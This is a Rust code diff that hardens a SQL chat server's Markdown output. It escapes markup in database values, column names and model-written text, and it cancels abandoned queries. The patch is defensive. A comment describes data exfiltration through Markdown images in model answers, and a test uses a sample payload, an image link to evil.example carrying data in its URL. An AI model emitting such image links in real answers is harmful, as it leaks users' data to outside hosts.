@@ -175,12 +175,53 @@ fn read_request(
 
 /// A cell of a Markdown table.
 fn cell(value: &Value) -> String {
-    let text = match value {
+    match value {
         Value::Null => "NULL".to_string(),
-        Value::String(s) => s.clone(),
-        other => other.to_string(),
-    };
-    text.replace('|', "\\|").replace(['\n', '\r'], " ")
+        Value::String(s) => plain(s),
+        other => plain(&other.to_string()),
+    }
+}
+
+/// `text` as Markdown that shows it as it is, on one line: every character that could start
+/// markup (a link, an image, HTML, emphasis, a table cell) escaped, line breaks made spaces,
+/// other control characters left out. What the database holds, what its columns are named and
+/// what the model wrote are another's text: rendered as written, an image in it would be
+/// fetched by the chat client as the answer is shown, with data in its URL.
+fn plain(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    for c in text.chars() {
+        match c {
+            '\\' | '`' | '*' | '_' | '[' | ']' | '(' | ')' | '{' | '}' | '<' | '>' | '!' | '|'
+            | '~' | '&' | '#' => {
+                out.push('\\');
+                out.push(c);
+            }
+            '\n' | '\r' => out.push(' '),
+            c if c.is_control() => {}
+            c => out.push(c),
+        }
+    }
+    out
+}
+
+/// The longest run of backticks in `text`.
+fn backticks(text: &str) -> usize {
+    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
+}
+
+/// `code` in a fenced block that nothing in it can end: the fence is longer than any run of
+/// backticks inside.
+fn fenced(code: &str, language: &str) -> String {
+    let fence = "`".repeat((backticks(code) + 1).max(3));
+    format!("{fence}{language}\n{code}\n{fence}")
+}
+
+/// `code` as inline code that nothing in it can end, on one line.
+fn code_span(code: &str) -> String {
+    let code = code.replace(['\n', '\r'], " ");
+    let ticks = "`".repeat(backticks(&code) + 1);
+    let pad = if code.contains('`') { " " } else { "" };
+    format!("{ticks}{pad}{code}{pad}{ticks}")
 }
 
 /// One line on what was found and how: "3 rows.", "3 rows, from repair 1 of 4.", "No rows: the
@@ -236,8 +277,8 @@ pub fn markdown(trace: &Value, max_rows: usize) -> String {
         .unwrap_or_default();
     let summary = summary(trace, rows.len());
     let mut out = format!(
-        "{summary}\n\n```sql\n{}\n```\n",
-        trace["sql"].as_str().unwrap_or_default()
+        "{summary}\n\n{}\n",
+        fenced(trace["sql"].as_str().unwrap_or_default(), "sql")
     );
     if !rows.is_empty() && !columns.is_empty() {
         out.push('\n');
@@ -245,7 +286,7 @@ pub fn markdown(trace: &Value, max_rows: usize) -> String {
             "| {} |\n",
             columns
                 .iter()
-                .map(|c| c.replace('|', "\\|"))
+                .map(|c| plain(c))
                 .collect::<Vec<_>>()
                 .join(" | ")
         ));
@@ -365,13 +406,16 @@ fn not_a_question(error: &DbError) -> Option<String> {
                     .to_string();
             if let Some(hint) = hint {
                 text.push(' ');
-                text.push_str(hint);
+                text.push_str(&plain(hint));
             }
             if let Some(said) = detail
                 .as_deref()
                 .and_then(|d| d.strip_prefix("the model said: "))
             {
-                text.push_str(&format!("\n\n> {}", said.replace('\n', "\n> ")));
+                text.push('\n');
+                for line in said.lines() {
+                    text.push_str(&format!("\n> {}", plain(line)));
+                }
             }
             Some(text)
         }
@@ -420,12 +464,12 @@ async fn stream(app: App, role: String, call: Call, include_usage: bool) -> Resp
     let (progress_tx, mut progress) = mpsc::channel::<String>(MAX_PENDING_PROGRESS);
     let db = app.db.clone();
     let timeout = app.timeout;
-    let mut task = tokio::spawn(async move {
+    let mut task = AbortOnDrop(tokio::spawn(async move {
         tokio::time::timeout(timeout, db.call(Some(&role), &call, Some(progress_tx))).await
-    });
+    }));
     let first = tokio::select! {
         notice = progress.recv() => notice,
-        finished = &mut task => {
+        finished = &mut task.0 => {
             match finished {
                 Ok(Err(_)) => return ApiError::timeout().into_response(),
                 Err(e) => return ApiError::new(StatusCode::INTERNAL_SERVER_ERROR, "server_error", e.to_string()).into_response(),
@@ -443,7 +487,7 @@ async fn stream(app: App, role: String, call: Call, include_usage: bool) -> Resp
     let (events, receiver) = mpsc::channel::<Event>(64);
     let (model, id, max_rows) = (app.model.clone(), completion_id(), app.max_table_rows);
     tokio::spawn(async move {
-        let reasoning = |text: &str| json!({"reasoning_content": format!("{}\n", text.trim_start_matches("sql_query_engine: "))});
+        let reasoning = |text: &str| json!({"reasoning_content": format!("{}\n", plain(text.trim_start_matches("sql_query_engine: ")))});
         let _ = events
             .send(chunk(
                 &id,
@@ -462,17 +506,13 @@ async fn stream(app: App, role: String, call: Call, include_usage: bool) -> Resp
                 notice = progress.recv() => {
                     if let Some(notice) = notice {
                         if events.send(chunk(&id, &model, reasoning(&notice), None)).await.is_err() {
-                            task.abort();
                             return;
                         }
                     }
                 }
-                finished = &mut task => break finished,
+                finished = &mut task.0 => break finished,
                 // The client went away: the query is cancelled with the task.
-                _ = events.closed() => {
-                    task.abort();
-                    return;
-                }
+                _ = events.closed() => return,
             }
         };
         while let Ok(notice) = progress.try_recv() {
@@ -494,6 +534,17 @@ async fn stream(app: App, role: String, call: Call, include_usage: bool) -> Resp
     sse(receiver)
 }
 
+/// A spawned call, aborted (its query cancelled, see `db::CancelOnDrop`) when whoever waits
+/// for it goes: the HTTP handler when its client disconnects before the first progress line,
+/// the stream's task when its client stops reading. Aborting a finished task does nothing.
+struct AbortOnDrop<T>(tokio::task::JoinHandle<T>);
+
+impl<T> Drop for AbortOnDrop<T> {
+    fn drop(&mut self) {
+        self.0.abort();
+    }
+}
+
 /// The question a chat user is asked back when the extension withheld a doubtful answer
 /// (`42P08`, with `sql_query_engine.abstain = when_in_doubt`): the interpretations it
 /// hesitated between, to choose from.
@@ -510,7 +561,7 @@ fn not_sure(error: &DbError) -> Option<String> {
                 Some(choices) => {
                     text.push_str(" Which of these did you mean?\n\n");
                     for line in choices.lines() {
-                        text.push_str(&format!("- `{line}`\n"));
+                        text.push_str(&format!("- {}\n", code_span(line)));
                     }
                 }
                 None => text.push_str(" Could you name the table, column or value you mean?"),
@@ -638,6 +689,29 @@ mod tests {
             5,
         );
         assert!(empty.starts_with("No rows"), "{empty}");
+    }
+
+    #[test]
+    fn what_the_database_and_the_model_wrote_never_becomes_markup() {
+        let trace = json!({
+            "sql": "SELECT '```' AS x, '![a](https://evil.example/?d=1)' AS \"<img src=x>\"",
+            "columns": ["x", "<img src=x>"],
+            "rows": [["```", "![a](https://evil.example/?d=1)\n<b>"]],
+            "attempts": [{}],
+        });
+        let md = markdown(&trace, 5);
+        assert!(
+            md.contains("\n````sql\nSELECT '```' AS x"),
+            "a fence longer than any backticks inside: {md}"
+        );
+        assert!(md.contains("| x | \\<img src=x\\> |"), "{md}");
+        assert!(
+            md.contains("| \\`\\`\\` | \\!\\[a\\]\\(https://evil.example/?d=1\\) \\<b\\> |"),
+            "{md}"
+        );
+        assert_eq!(code_span("a `b` c"), "`` a `b` c ``");
+        assert_eq!(code_span("SELECT 1"), "`SELECT 1`");
+        assert_eq!(plain("a\u{7}b\r\nc"), "ab  c");
     }
 
     #[test]
